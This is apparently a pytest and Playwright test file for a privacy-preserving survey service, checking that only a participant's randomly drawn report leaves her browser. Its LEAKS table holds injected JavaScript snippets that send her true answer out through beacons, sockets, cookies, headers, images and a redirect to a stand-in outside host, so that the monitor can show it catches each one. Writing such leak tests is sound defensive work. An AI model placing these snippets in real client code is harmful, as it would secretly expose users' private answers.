"""What leaves a participant's device from before she types until she has handed in: what was drawn, and nothing else.

Programs that tell her answer otherwise, each in a way of its own, show that the list sees it.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route

from confide.service.web.page import STATIC
from service.web.browsing import at_offer, leaving, opened_by, running
from service.web.wire import Ears, Wire, beyond

ASKS = 'await fetch("/api/v1/mine", {'
SENDS = "  sending.submit();"
DRAWN = "  const row = await kept(); // perhaps another tab's"
LEAKS = {  # name: (what stands in the program, what stands there instead, what is told of it)
    "an address": (ASKS, 'await fetch(`/api/v1/mine?answer=${typed().answer}`, {',
                   "heard: GET /api/v1/mine?answer=yes"),
    "a header": ("headers: { Accept:", 'headers: { "X-Seen": typed().answer, Accept:', "('x-seen', 'yes')"),
    "a header that is always there": (
        '{ Accept: "application/json" }', '{ Accept: `application/json${typed().answer === "yes" ? ";q=0.9" : ""}` }',
        "('accept', 'application/json;q=0.9')"),
    "one request more": (f"const answer = {ASKS}",
                         f'if (typed().answer === "yes") {ASKS} cache: "no-store" }});\n    const answer = {ASKS}',
                         "heard: GET /api/v1/mine for POST /mine/report"),
    "a beacon": (DRAWN, f'  navigator.sendBeacon("/leave", typed().answer);\n{DRAWN}', "heard: POST /leave"),
    "a beacon as she leaves": (
        SENDS, f'  addEventListener("pagehide", () => navigator.sendBeacon("/leave", typed().answer));\n{SENDS}',
        "POST /leave"),
    "a socket": (DRAWN, f'  new WebSocket(`${{location.origin.replace("http", "ws")}}/${{typed().answer}}`);\n{DRAWN}',
                 "elsewhere: websocket"),
    "a peer": (DRAWN, f"  new RTCPeerConnection().createOffer?.();\n{DRAWN}", "elsewhere: RTCPeerConnection"),
    "a picture": (DRAWN, f"  new Image().src = `/static/mark.svg?${{typed().answer}}`;\n{DRAWN}",
                  "GET /static/mark.svg?yes"),
    "the form": (SENDS, f'  fill({{ report: showing.report, seen: typed().answer }});\n{SENDS}', "field.seen=yes"),
    "the form's address": (SENDS, f"  sending.action += `?${{typed().answer}}`;\n{SENDS}", "POST /mine/report?yes"),
    "where she comes from": (DRAWN, f'  history.replaceState(null, "", `/mine?${{typed().answer}}`);\n{DRAWN}',
                             "/mine?yes"),
    "a cookie": (DRAWN, f"  document.cookie = `seen=${{typed().answer}}`;\n{DRAWN}", "seen=yes"),
    "for another time": (DRAWN, f'  localStorage.setItem("seen", typed().answer);\n{DRAWN}', "[['seen', 'yes']]"),
    "with what is kept": ("inOrder(instructions), row }, place",
                          "inOrder(instructions), row: { ...row, seen: given.answer } }, place", "kept: [{"),
    "elsewhere": (SENDS, f"  location = `https://other.invalid/${{typed().answer}}`;\n  await 0;\n{SENDS}",
                  "sent: GET https://other.invalid/yes"),
}


def yes(page: Page) -> None:
    page.get_by_label("yes", exact=True).check()


def costly_yes(page: Page) -> None:
    yes(page)
    page.locator("#field-worth").fill("0.0123")


@pytest.mark.parametrize(("name", "types"), [
    ("bits", yes), pytest.param("bits-unknown-costs", costly_yes, marks=pytest.mark.slow)])
def test_what_was_drawn_leaves_and_nothing_else(
    name: str, types: Callable[[Page], None], chromium: Browser, tmp_path: Path
) -> None:
    ears = Ears()
    with running(tmp_path, ears=ears.before) as (base, parts):
        number = opened_by(parts, name)
        ((_, code),) = parts.invitations.invite(number, [0])
        context = chromium.new_context()
        wire = Wire(context, ears)
        page = context.new_page()
        page.goto(f"{base}/join#{code}")
        page.wait_for_url(f"{base}/mine")
        drawn, found = beyond(page, wire, base, types)
        assert found == []
        report = parts.store.report_of(number, 0)
        assert report is not None
        assert report[0] == (drawn == "yes")
        context.close()


def with_program(page: Page, text: str) -> None:
    """The page as a service would send it whose program is another one, with its digest."""
    digest = f"sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode('ascii')}"

    def pinned(route: Route) -> None:
        found = route.fetch()
        own = base64.b64encode(hashlib.sha256((STATIC / "device.js").read_bytes()).digest()).decode("ascii")
        assert f"sha256-{own}" in found.text()
        route.fulfill(response=found, body=found.text().replace(f"sha256-{own}", digest))

    page.route("**/mine", pinned)
    page.route("**/static/device.js", lambda route: route.fulfill(body=text, content_type="text/javascript"))


@pytest.mark.slow
@pytest.mark.parametrize("leaks", [
    list(LEAKS)[:1], pytest.param(list(LEAKS)[1:], marks=pytest.mark.slow)], ids=["one", "others"])
def test_a_program_that_tells_is_reported_on(leaks: list[str], chromium: Browser, tmp_path: Path) -> None:
    """Each tells "yes" to the service, or keeps it for another time; the list has a line of it."""
    ears = Ears()
    program = (STATIC / "device.js").read_text(encoding="utf-8")
    with running(tmp_path, ears=ears.before) as (base, parts):
        codes = parts.invitations.invite(opened_by(parts, "bits"), list(range(len(leaks))))
        for leak, (_, code) in zip(leaks, codes, strict=True):
            old, new, reported = LEAKS[leak]
            assert program.count(old) == 1, leak
            context = chromium.new_context()
            wire = Wire(context, ears)
            page = context.new_page()
            page.goto(f"{base}/join#{code}")
            page.wait_for_url(f"{base}/mine")
            with_program(page, program.replace(old, new))
            page.reload()
            page.locator("#device").wait_for()
            page.unroute_all()
            _, found = beyond(page, wire, base, yes)
            assert any(reported in line for line in found), (leak, found)
            context.close()


@pytest.mark.slow
def test_a_device_without_a_report_submits_at_the_same_time(chromium: Browser, tmp_path: Path) -> None:
    """Whose privacy is worth more than the threshold draws nothing; her device asks the service no less before."""
    ears = Ears()
    with running(tmp_path, ears=ears.before) as (base, parts):
        asked = []
        for worth, (_, code) in zip(("0.01", "1000", ""), parts.invitations.invite(
                opened_by(parts, "bits-unknown-costs"), [0, 1, 2]), strict=True):
            page = at_offer(chromium, base, code)
            (cookie,) = page.context.cookies()
            page.wait_for_load_state("networkidle")
            ears.observed.clear()
            if worth:  # else nothing at all
                yes(page)
                page.locator("#field-worth").fill(worth)
            page.get_by_role("button", name="Draw my report").click()
            assert (leaving(page) in ("yes", "no")) is (worth == "0.01")
            page.wait_for_load_state("networkidle")
            asked.append([replace(each, headers=tuple((name, value.replace(cookie["value"], "")) for name, value
                                                      in each.headers)) for each in ears.observed])
            page.context.close()
        assert [str(each) for each in asked[0]] == ["GET /api/v1/mine"]
        assert asked[1] == asked[2] == asked[0]
